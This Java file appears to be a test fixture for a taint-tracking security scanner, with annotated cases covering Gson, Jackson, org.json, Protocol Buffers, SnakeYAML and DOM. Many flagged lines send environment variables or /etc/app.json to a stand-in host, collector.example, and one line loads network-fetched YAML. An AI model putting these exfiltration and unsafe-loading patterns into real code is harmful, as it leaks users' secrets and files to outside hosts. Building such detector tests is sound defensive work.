// Gson, Jackson, org.json, Protocol Buffers, SnakeYAML, XStream, DOM: objects to text and back.
package app;

import com.fasterxml.jackson.databind.*;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.gson.*;
import com.google.protobuf.*;
import java.io.*;
import javax.xml.parsers.DocumentBuilder;
import org.json.*;
import org.springframework.web.client.RestTemplate;
import org.w3c.dom.*;
import org.yaml.snakeyaml.Yaml;

class Serialise {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void fast() {
        rest.postForObject(U, com.alibaba.fastjson.JSON.toJSONString(System.getenv("T")), String.class); //~ source(ENVIRONMENT) ffast, sink(egress.http) ffast, finding(traced) ffast
        rest.postForObject(U, com.alibaba.fastjson.JSON.toJSONString("x"), String.class); //~ ok
    }

    void parsed() {
        JSONObject object = new JSONObject(System.getenv("T")); //~ source(ENVIRONMENT) f1
        rest.postForObject(U, object.getString("t").trim(), String.class); //~ sink(egress.http) f1, finding(traced) f1
        rest.postForObject(U, object.has("t"), String.class); //~ ok
    }

    void nested(JSONObject object) {
        object.put("a", System.getenv("T")); //~ source(ENVIRONMENT) f2
        rest.postForObject(U, object.getJSONObject("a").getString("b"), String.class); //~ sink(egress.http) f2, finding(traced) f2
        rest.postForObject(U, object.getJSONObject("x").getString("b"), String.class); //~ ok
    }

    void nestedArray(JSONObject object) {
        object.put("a", System.getenv("T")); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, object.getJSONArray("a").getString(0), String.class); //~ sink(egress.http) f3, finding(traced) f3
        rest.postForObject(U, object.getJSONArray("x").getString(0), String.class); //~ ok
    }

    void made() {
        JSONObject object = new JSONObject();
        object.put("a", 1).put("t", System.getenv("T")); //~ source(ENVIRONMENT) f4
        rest.postForObject(U, object.toString().trim(), String.class); //~ sink(egress.http) f4, finding(traced) f4
    }

    void madeArray() {
        JSONArray array = new JSONArray();
        array.put(System.getenv("T")); //~ source(ENVIRONMENT) f5
        rest.postForObject(U, array.toString().trim(), String.class); //~ sink(egress.http) f5, finding(traced) f5
        rest.postForObject(U, array.length(), String.class); //~ ok
    }

    void madeNested(JSONArray array) {
        array.put(System.getenv("T")); //~ source(ENVIRONMENT) f6
        rest.postForObject(U, array.getJSONObject(0).getString("x"), String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void jsonConstants(JSONObject object, JSONArray array) {
        object.put("a", 1); //~ ok
        array.put("x"); //~ ok
        rest.postForObject(U, new JSONObject("{}").getString("t"), String.class); //~ ok
        rest.postForObject(U, object.toString().trim(), String.class); //~ ok
        rest.postForObject(U, array.getJSONObject(0).getString("x"), String.class); //~ ok
    }

    void gson() {
        rest.postForObject(U, new GsonBuilder().setPrettyPrinting().create().toJson(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7
    }

    void gsonRead(Gson gson) {
        rest.postForObject(U, gson.fromJson(System.getenv("T"), String.class), String.class); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
    }

    void gsonWritten(Gson gson) {
        StringWriter out = new StringWriter();
        gson.toJson(System.getenv("T"), out); //~ source(ENVIRONMENT) f9
        rest.postForObject(U, out.toString(), String.class); //~ sink(egress.http) f9, finding(traced) f9
    }

    void gsonConstants() {
        Gson gson = new GsonBuilder().setPrettyPrinting().create(); //~ ok
        gson.toJson("x", new StringWriter()); //~ ok
        rest.postForObject(U, gson.toJson("x"), String.class); //~ ok
        rest.postForObject(U, gson.fromJson("x", String.class), String.class); //~ ok
    }

    void jackson(ObjectMapper mapper) {
        rest.postForObject(U, mapper.writeValueAsString(System.getenv("T")).trim(), String.class); //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10
    }

    void jacksonWritten(ObjectMapper mapper) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        mapper.writeValue(out, System.getenv("T")); //~ source(ENVIRONMENT) f11
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f11, finding(traced) f11
    }

    void jacksonRead(ObjectMapper mapper) {
        rest.postForObject(U, mapper.readValue(System.getenv("T"), String.class), String.class); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12
    }

    void jacksonFile(ObjectMapper mapper) {
        rest.postForObject(U, mapper.readValue(new File("/etc/app.json"), String.class), String.class); //~ source(FILE) f13, sink(egress.http) f13, finding(traced) f13, capability(FILES)
    }

    void jacksonTree(ObjectMapper mapper) {
        rest.postForObject(U, mapper.readTree(System.getenv("T")).get("t").asText(), String.class); //~ source(ENVIRONMENT) f14, sink(egress.http) f14, finding(traced) f14
    }

    void jacksonNode(ObjectMapper mapper) {
        ObjectNode node = mapper.createObjectNode();
        mapper.createObjectNode().put("t", System.getenv("T")).toString(); //~ ok
        rest.postForObject(U, mapper.createObjectNode().put("t", System.getenv("T")).toString(), String.class); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
    }

    void jacksonConstants(ObjectMapper mapper) {
        mapper.writeValue(new ByteArrayOutputStream(), "x"); //~ ok
        rest.postForObject(U, mapper.writeValueAsString("x").trim(), String.class); //~ ok
        rest.postForObject(U, mapper.readValue("x", String.class), String.class); //~ ok
        rest.postForObject(U, mapper.readTree("x").get("t").asText(), String.class); //~ ok
    }

    void messageBytes(Parser<MessageLite> parser) {
        rest.postForObject(U, parser.parseFrom(System.getenv("T").getBytes()).toByteArray(), String.class); //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21
        rest.postForObject(U, parser.parseFrom(new byte[1]).toByteArray(), String.class); //~ ok
    }

    void messageStream(Parser<MessageLite> parser) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        parser.parseFrom(System.getenv("T").getBytes()).writeTo(out); //~ source(ENVIRONMENT) f22
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f22, finding(traced) f22
    }

    void message(MessageLite message) {
        rest.postForObject(U, ByteString.copyFromUtf8(System.getenv("T")).toByteArray(), String.class); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16
        rest.postForObject(U, ByteString.copyFromUtf8("x").toByteArray(), String.class); //~ ok
        rest.postForObject(U, message.toByteArray(), String.class); //~ ok
        message.writeTo(new ByteArrayOutputStream()); //~ ok
    }

    void yaml(Yaml yaml) {
        yaml.load(rest.getForObject(U, String.class)); //~ source(NETWORK) f17, sink(exec.load) f17, finding(traced) f17, capability(DYNAMIC_CODE)
        yaml.load("x"); //~ ok
    }

    void yamlDumped(Yaml yaml) {
        rest.postForObject(U, yaml.dump(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18
        rest.postForObject(U, yaml.dump("x"), String.class); //~ ok
    }

    void xml(DocumentBuilder builder) {
        Document document = builder.parse(System.getenv("T")); //~ source(ENVIRONMENT) f19
        rest.postForObject(U, document.getElementsByTagName("x").item(0).getTextContent(), String.class); //~ sink(egress.http) f19, finding(traced) f19
    }

    void xmlMade(Element element) {
        element.setAttribute("t", System.getenv("T")); //~ source(ENVIRONMENT) f20
        rest.postForObject(U, element.getAttribute("t"), String.class); //~ sink(egress.http) f20, finding(traced) f20
    }

    void xmlConstants(DocumentBuilder builder, Element element) {
        element.setAttribute("t", "x"); //~ ok
        rest.postForObject(U, builder.parse("x").getTextContent(), String.class); //~ ok
    }
}
